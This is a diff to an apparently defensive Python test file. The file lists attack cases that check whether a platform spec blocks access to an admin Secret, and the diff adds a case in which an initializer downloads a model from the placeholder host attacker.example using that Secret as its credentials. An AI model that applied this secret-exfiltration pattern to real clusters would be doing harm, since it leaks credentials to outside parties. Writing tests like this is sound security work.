@@ -136,6 +136,25 @@ ATTACKS: dict[str, Attack] = {
     "a Secret in an initializer": Attack(
         small_spec({"initializers": [{"name": "steal", "command": ["env"], "env": [from_secret(ADMINS)]}]}), NO_SECRET
     ),
+    "a Secret as the token of a download": Attack(
+        small_spec(
+            {
+                "initializers": [
+                    {
+                        "name": "steal",
+                        "type": "Model",
+                        "download": {
+                            "endpoint": "https://attacker.example",
+                            "repository": "a/b",
+                            "credentials": {"name": ADMINS, "key": "k"},
+                            "to": "/data/model",
+                        },
+                    }
+                ]
+            }
+        ),
+        NO_SECRET,
+    ),
     "a Secret in a container of core/v1": Attack(small_spec(sidecar(env=[from_secret(ADMINS)])), NO_SECRET),
     "a Secret as a hub's token": Attack(
         small_spec(
